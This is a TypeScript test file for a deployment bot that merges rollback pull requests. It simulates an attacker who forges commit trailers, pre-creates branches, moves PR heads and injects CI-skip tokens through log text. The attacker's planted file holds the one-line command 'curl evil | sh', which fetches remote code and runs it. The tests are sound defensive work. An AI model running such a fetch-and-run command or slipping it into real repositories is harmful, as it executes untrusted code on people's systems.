import { describe, expect, it, vi } from "vitest";
import type { Person } from "../../dev/stage/person.ts";
import { SKIPS_CI } from "../views/attacks.ts";
import type { Team } from "./inside.ts";
import {
  climbing,
  ended,
  justBefore,
  lookUntil,
  openShop,
  ship,
  somebody,
  weightIn,
  weightOf,
} from "./shop.ts";
import { useInside } from "./use-inside.ts";

const inside = useInside();

const BRANCH = "sluice/rollback/checkout-1";
const EVIL = "evil.sh";
const FORGED = "Roll back\n\nSluice-Release: checkout#1\nSluice-Step: 1\nSluice-Effect: checkout#1.2";

/** A writer who would like to have something merged that nobody looked at. */
class Mallory {
  readonly #person: Person;
  readonly #team: Team;

  constructor(team: Team) {
    this.#team = team;
    this.#person = somebody(inside, team, "mallory", "write");
  }

  get #where() {
    return { owner: this.#team.repository.owner.login, repo: this.#team.repository.name };
  }

  push(message = "Helpful", branch = BRANCH): Promise<string> {
    const files = { [EVIL]: "curl evil | sh\n" };
    return inside.github.push(this.#team.repository, branch, { files, message, author: "mallory" });
  }

  async open(base: string, body = ""): Promise<number> {
    const { data } = await this.#person.octokit.rest.pulls.create({
      ...this.#where,
      title: "Roll back",
      head: BRANCH,
      base,
      body,
    });
    return data.number;
  }

  change(pull: number, what: { readonly state?: "closed"; readonly base?: string }) {
    return this.#person.octokit.rest.pulls.update({ ...this.#where, pull_number: pull, ...what });
  }

  async other(): Promise<void> {
    const files = { "notes.md": "Elsewhere\n" };
    await inside.github.push(this.#team.repository, "other", { files, message: "Other", author: "mallory" });
  }

  merge(pull: number): Promise<void> {
    return this.#person.merge(pull);
  }
}

async function isOnMain(team: Team, path: string): Promise<boolean> {
  return (await team.repository.git.object(`main:${path}`)) !== null;
}

function pullsOf(team: Team) {
  return [...team.repository.pulls.values()].filter(({ headBranch }) => headBranch.startsWith("sluice/"));
}

/** The pull requests that Sluice merged. */
async function mergedBySluice(team: Team) {
  const merged = [];
  for (const { number } of team.repository.pulls.values()) {
    const pull = await team.alice.pull(number);
    if (pull.merged_by?.login === "sluice[bot]") merged.push(pull);
  }
  return merged;
}

function messagesOf({ repository: { git } }: Team, commits: readonly (string | null | undefined)[]) {
  return Promise.all(commits.map(async (oid) => (await git.commit(oid ?? ""))?.message));
}

type Preparation = (mallory: Mallory) => Promise<unknown>;

const PREPARATIONS: Readonly<Record<string, Preparation>> = {
  "a branch": (mallory) => mallory.push(),
  "a branch whose tip claims to be the rollback": (mallory) => mallory.push(FORGED),
  async "a pull request"(mallory) {
    await mallory.push();
    await mallory.open("main");
  },
  async "a pull request that claims to be the rollback, as its commit does"(mallory) {
    await mallory.push(FORGED);
    await mallory.open("main", FORGED);
  },
  async "a pull request into another branch"(mallory) {
    await mallory.other();
    await mallory.push();
    await mallory.open("other");
  },
  async "a pull request, closed again"(mallory) {
    await mallory.push(FORGED);
    await mallory.change(await mallory.open("main", FORGED), { state: "closed" });
  },
};

describe("an application that fails", () => {
  it("keeps no workflow from running for its rollback by its last words", async () => {
    const team = await openShop(inside, { cluster: "production" });
    await ship(team, "2.0.0");
    const bot = team.process();
    const look = vi.spyOn(bot.ports.cluster, "look");
    const nothing = { traffic: null, appliedAt: null, drift: null, canary: null, stable: null };
    look.mockResolvedValue(nothing);
    await lookUntil(team, bot, climbing);
    const words = "pod canary-1: CrashLoopBackOff: [skip ci] [CI skip] [no ci] [skip actions] [actions skip]";
    look.mockResolvedValue({ ...nothing, canary: { status: "failed", words } });
    expect((await lookUntil(team, bot, ended)).last?.outcome).toBe("rolled-back");
    const [rollback] = await mergedBySluice(team);
    const messages = await messagesOf(team, [rollback?.head.sha, rollback?.merge_commit_sha]);
    expect(messages[0]).toContain("CrashLoopBackOff");
    expect(messages[1]).toContain("Sluice-Release: checkout#1");
    // A person who merges may take its body along.
    for (const text of [...messages, rollback?.title, rollback?.body]) {
      expect(text).not.toMatch(SKIPS_CI);
    }
  });
});

describe("somebody who can foresee the name of the rollback prepares", () => {
  it.each(Object.entries(PREPARATIONS))("%s: the rollback is ours all the same", async (_, prepare) => {
    const team = await openShop(inside);
    await prepare(new Mallory(team));
    await ship(team, "2.0.0-bad");
    const state = await lookUntil(team, team.process(), ended);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect(await team.read("main", "apps/checkout/canary.yaml")).toContain("checkout:1.0.0");
    expect(await isOnMain(team, EVIL)).toBe(false);
    const merged = await mergedBySluice(team);
    expect(merged.map(({ user, base }) => [user.login, base.ref])).toEqual([["sluice[bot]", "main"]]);
    expect(await team.forge.pullFiles(merged[0]?.number ?? 0)).not.toContain(EVIL);
  });

  it("both names that could be used: without a pull request the weight is taken back all the same", async () => {
    const team = await openShop(inside, { rollback: { deadline: "5s" } });
    const mallory = new Mallory(team);
    await ship(team, "2.0.0-bad");
    // The second name is known as soon as the intent is.
    const forge = justBefore(team.forge, "createBranch", async (branch) => {
      if (branch.startsWith(BRANCH)) await mallory.push(FORGED, branch);
    });
    const state = await lookUntil(team, team.process(forge), ended);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect(await isOnMain(team, EVIL)).toBe(false);
    expect(await mergedBySluice(team)).toEqual([]);
    expect(pullsOf(team)).toEqual([]);
  });
});

describe("the rollback pull request in other hands", () => {
  it("its head moved after we made it: not merged by us, and the weight goes to 0 after the deadline", async () => {
    const team = await openShop(inside, { rollback: { deadline: "5s" } });
    const mallory = new Mallory(team);
    await ship(team, "2.0.0-bad");
    let pushed = false;
    const forge = justBefore(team.forge, "pull", async (number) => {
      if (pushed || team.repository.pulls.get(number)?.headBranch !== BRANCH) return;
      pushed = true;
      await mallory.push();
    });
    const bot = team.process(forge);
    const open = await lookUntil(team, bot, ({ release }) => release?.rollback?.pull != null);
    expect(pushed).toBe(true);
    expect(await weightOf(team)).toBe(50);
    const state = await lookUntil(team, bot, ended);
    expect(state.last?.outcome).toBe("rolled-back");
    const openedAt = open.release?.rollback?.pull?.openedAt ?? Number.NaN;
    expect((state.last?.at ?? 0) - openedAt).toBeGreaterThanOrEqual(5000);
    expect((await team.contents(["mesh/checkout.yaml"])).map(weightIn)).toEqual([0, 50, 0]);
    expect(await isOnMain(team, EVIL)).toBe(false);
    expect(await mergedBySluice(team)).toEqual([]);
    expect((await team.alice.pull(open.release?.rollback?.pull?.number ?? 0)).state).toBe("open");
  });

  it("its head moved while the process that opened it died: what is merged is what we made", async () => {
    const team = await openShop(inside, { rollback: { deadline: "5s" } });
    const mallory = new Mallory(team);
    await ship(team, "2.0.0-bad");
    const dying = justBefore(team.forge, "openPull", async () => {
      await mallory.push(FORGED);
      throw new Error("the process died");
    });
    await expect(lookUntil(team, team.process(dying), ended)).rejects.toThrow("the process died");
    const state = await lookUntil(team, team.process(), ended);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect(await isOnMain(team, EVIL)).toBe(false);
  });

  it("opened by somebody else from our commit, a moment before us: it is not taken for ours", async () => {
    const team = await openShop(inside);
    const mallory = new Mallory(team);
    await ship(team, "2.0.0-bad");
    const forge = justBefore(team.forge, "openPull", async ({ branch, body }) => {
      if (branch === BRANCH) await mallory.open("main", body);
    });
    const state = await lookUntil(team, team.process(forge), ended);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect((await mergedBySluice(team)).map(({ user }) => user.login)).toEqual(["sluice[bot]"]);
  });

  it("its base changed before we merge: not merged there by us, and the weight goes to 0 after the deadline", async () => {
    const team = await openShop(inside, { rollback: { deadline: "5s" } });
    const mallory = new Mallory(team);
    await mallory.other();
    await ship(team, "2.0.0-bad");
    const forge = justBefore(team.forge, "pull", async (number) => {
      const pull = team.repository.pulls.get(number);
      if (pull?.headBranch === BRANCH && pull.base === "main")
        await mallory.change(number, { base: "other" });
    });
    const state = await lookUntil(team, team.process(forge), ended);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect(await mergedBySluice(team)).toEqual([]);
    expect(pullsOf(team).map(({ base, merged }) => [base, merged])).toEqual([["other", null]]);
  });

  it("merged into another branch, it has taken nothing back", async () => {
    const team = await openShop(inside, { rollback: { merge: "manual" } });
    const mallory = new Mallory(team);
    await mallory.other();
    const bad = await ship(team, "2.0.0-bad");
    const bot = team.process();
    const open = await lookUntil(team, bot, ({ release }) => release?.rollback?.pull != null);
    const number = open.release?.rollback?.pull?.number ?? 0;
    await mallory.change(number, { base: "other" });
    await mallory.merge(number);
    const held = await lookUntil(team, bot, ({ release }) => release?.hold != null);
    expect(held.release).toMatchObject({ phase: "rolling-back", hold: { reason: "rollback-closed" } });
    expect(held.last).toBeNull();
    expect(await weightOf(team)).toBe(50);
    const comment = await team.alice.comment(bad, "/canary rollback");
    await bot.look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(0);
    expect((await lookUntil(team, bot, ended)).last?.outcome).toBe("rolled-back");
  });
});
